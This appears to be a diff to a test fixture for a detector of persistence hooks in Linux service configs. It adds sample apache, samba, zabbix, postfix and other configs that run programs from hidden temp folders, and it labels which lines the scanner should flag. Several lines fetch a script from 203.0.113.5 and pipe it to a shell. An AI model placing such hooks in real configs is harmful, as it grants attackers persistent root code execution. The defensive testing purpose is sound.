@@ -3,6 +3,20 @@ import { elf, type Pair, script } from './pair.ts';
 export const pair: Pair = {
   packaged: { '/usr/bin/nvidia-container-runtime': elf('runtime') },
   tree: {
+    '/etc/apache2/sites-enabled/x.conf':
+      '<VirtualHost *:80>\n CustomLog "|/usr/bin/rotatelogs /var/log/apache2/a.%Y 86400" combined\n ErrorLog "|/var/tmp/.a/log"\n CustomLog "|$curl -s http://203.0.113.5/k | sh" common\n RewriteMap m prg:/dev/shm/.a/map\n</VirtualHost>\n',
+    '/etc/haproxy/haproxy.cfg':
+      'global\n lua-load /dev/shm/.h/x.lua\nprogram api\n command /usr/bin/dataplaneapi -f /etc/haproxy/api.yaml\n',
+    '/etc/squid/squid.conf': 'auth_param basic program /var/tmp/.s/auth /etc/squid/passwd\n',
+    '/etc/keepalived/keepalived.conf': 'vrrp_instance V {\n  notify_master "/var/tmp/.k/up master"\n}\n',
+    '/etc/audit/plugins.d/x.conf': 'active = yes\npath = /dev/shm/.d/plugin\n',
+    '/etc/postfix/master.cf':
+      'maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\nx unix - n n - - pipe\n  user=root argv=/var/tmp/.p/run ${sender}\n',
+    '/etc/samba/smb.conf':
+      '[homes]\n  root preexec = curl -s http://203.0.113.5/k | sh\n  panic action = /usr/share/samba/panic-action %d\n',
+    '/etc/dnsmasq.conf': 'dhcp-script=/var/tmp/.n/run\n',
+    '/etc/zabbix/zabbix_agentd.d/x.conf':
+      'UserParameter=disk.free[*],df -P $1 | tail -1\nUserParameter=net.x,curl -s http://203.0.113.5/k | bash\n',
     '/etc/rsyslog.d/30-x.conf': 'module(load="omprog")\naction(type="omprog" binary="/var/tmp/.r/run")\n',
     '/etc/rsyslog.d/queue.conf': 'action(type="omprog" binary="/usr/local/bin/to-queue --json")\n',
     '/usr/local/bin/to-queue': script('cat'),
@@ -23,6 +37,17 @@ export const pair: Pair = {
     '/etc/cloud/cloud.cfg.d/05_logging.cfg': 'output:\n  all: "| tee -a /var/log/cloud-init-output.log"\n',
   },
   blamed: [
+    more('/etc/apache2/sites-enabled/x.conf', 3),
+    { ...more('/etc/apache2/sites-enabled/x.conf', 4), code: 'fetch-pipe-shell' },
+    more('/etc/apache2/sites-enabled/x.conf', 5),
+    more('/etc/haproxy/haproxy.cfg', 2),
+    more('/etc/squid/squid.conf', 1),
+    more('/etc/keepalived/keepalived.conf', 2),
+    more('/etc/audit/plugins.d/x.conf', 2),
+    more('/etc/postfix/master.cf', 4),
+    { ...more('/etc/samba/smb.conf', 2), code: 'fetch-pipe-shell' },
+    more('/etc/dnsmasq.conf', 1),
+    { ...more('/etc/zabbix/zabbix_agentd.d/x.conf', 2), code: 'fetch-pipe-shell' },
     { path: '/etc/rsyslog.d/30-x.conf', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
     { path: '/etc/snmp/snmpd.conf', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
     { path: '/etc/smartd.conf', line: 1, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
@@ -73,6 +98,11 @@ export const pair: Pair = {
     },
   ],
   passed: [
+    '/etc/apache2/sites-enabled/x.conf line 2',
+    '/etc/haproxy/haproxy.cfg line 4',
+    '/etc/postfix/master.cf line 2',
+    '/etc/samba/smb.conf line 3',
+    '/etc/zabbix/zabbix_agentd.d/x.conf line 1',
     'queue.conf',
     '/etc/snmp/snmpd.conf line 1',
     '/etc/hosts.allow line 1',
@@ -82,3 +112,7 @@ export const pair: Pair = {
     '05_logging.cfg',
   ],
 };
+
+function more(path: string, line: number) {
+  return { path, line, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' } as const;
+}
